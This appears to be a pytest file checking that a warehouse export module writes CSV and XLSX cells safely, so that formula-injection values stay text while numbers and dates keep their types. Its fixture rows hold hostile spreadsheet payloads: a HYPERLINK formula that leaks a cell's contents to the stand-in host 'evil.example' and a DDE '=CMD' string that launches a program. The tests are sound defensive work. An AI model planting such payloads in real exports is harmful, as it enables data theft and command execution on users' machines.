"""Exports a supervisor opens in Excel: what came from a scanner or an import stays text."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from station.analytics.export import write_table
from station.analytics.safe_cells import safe_cell

HOSTILE_SKU = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
COLUMNS = ["lpn", "sku_received", "note", "refund", "delta", "units", "received_at"]
ROWS = [
    ["LP005000000017", HOSTILE_SKU, "=CMD|' /C calc'!A0", Decimal("-12.50"), -3, 2,
     dt.datetime(2026, 11, 20, 9, 30, tzinfo=dt.UTC)],
    ["LP005000000025", "@SUM(1+1)", "+1+cmd", Decimal("19.90"), -0.5, 1,
     dt.datetime(2026, 11, 20, 9, 31, tzinfo=dt.UTC)],
    ["LP005000000033", "\t=1+1", "-2+3", Decimal("0"), 4, 0, dt.datetime(2026, 11, 20, 9, 32, tzinfo=dt.UTC)],
    ["LP005000000041", "TS-001", "-12.5", Decimal("1"), 0, 1, dt.datetime(2026, 11, 20, 9, 33, tzinfo=dt.UTC)],
]


def test_formula_in_a_scanned_sku_is_inert_text_in_csv(tmp_path: Path) -> None:
    out = tmp_path / "queue.csv"
    write_table(out, "csv", "queue", COLUMNS, ROWS)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][1] == "'" + HOSTILE_SKU
    assert rows[1][2] == "'=CMD|' /C calc'!A0"
    assert rows[1][3:6] == ["-12.50", "-3", "2"]  # negative numbers are numbers, not neutralised text
    assert rows[2][1:3] == ["'@SUM(1+1)", "'+1+cmd"]
    assert rows[3][1:3] == ["'\t=1+1", "'-2+3"]
    assert rows[4][1:3] == ["TS-001", "-12.5"]  # text that is only a number cannot run


def test_formula_in_a_scanned_sku_is_a_string_cell_in_xlsx(tmp_path: Path) -> None:
    out = tmp_path / "queue.xlsx"
    write_table(out, "xlsx", "queue", COLUMNS, ROWS)
    sheet = load_workbook(out).active
    sku = sheet["B2"]
    assert (sku.data_type, sku.value) == ("s", "'" + HOSTILE_SKU)
    assert (sheet["C2"].data_type, sheet["C2"].value) == ("s", "'=CMD|' /C calc'!A0")
    assert [c.data_type for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    assert (sheet["D2"].data_type, sheet["D2"].value) == ("n", -12.5)
    assert (sheet["E2"].data_type, sheet["E2"].value) == ("n", -3)
    assert (sheet["E3"].data_type, sheet["E3"].value) == ("n", -0.5)
    assert sheet["C5"].value == "-12.5" and sheet["B5"].value == "TS-001"
    assert sheet["G2"].value == dt.datetime(2026, 11, 20, 9, 30)


@pytest.mark.parametrize("value", [-3, -0.5, Decimal("-12.50"), 0, None, True])
def test_values_that_are_not_text_pass_unchanged(value: object) -> None:
    assert safe_cell(value) is value


def test_money_and_dates_far_down_a_long_export_keep_their_formats(tmp_path: Path) -> None:
    """A column whose first 200 rows are empty (refunds not issued yet) still formats its
    later money as money and its dates as dates, cell by cell."""
    rows = [[f"LP{i:012d}", None, None, None] for i in range(300)]
    rows[250] = ["LP000000000250", Decimal("19.90"), dt.date(2026, 11, 20), dt.datetime(2026, 11, 20, 9, 30)]
    out = tmp_path / "long.xlsx"
    write_table(out, "xlsx", "refunds", ["lpn", "refund", "day", "at"], rows)
    sheet = load_workbook(out).active
    refund, day, at = sheet["B252"], sheet["C252"], sheet["D252"]
    assert (refund.data_type, refund.value, refund.number_format) == ("n", 19.9, "0.00")
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert at.is_date and at.number_format == "yyyy-mm-dd hh:mm:ss"
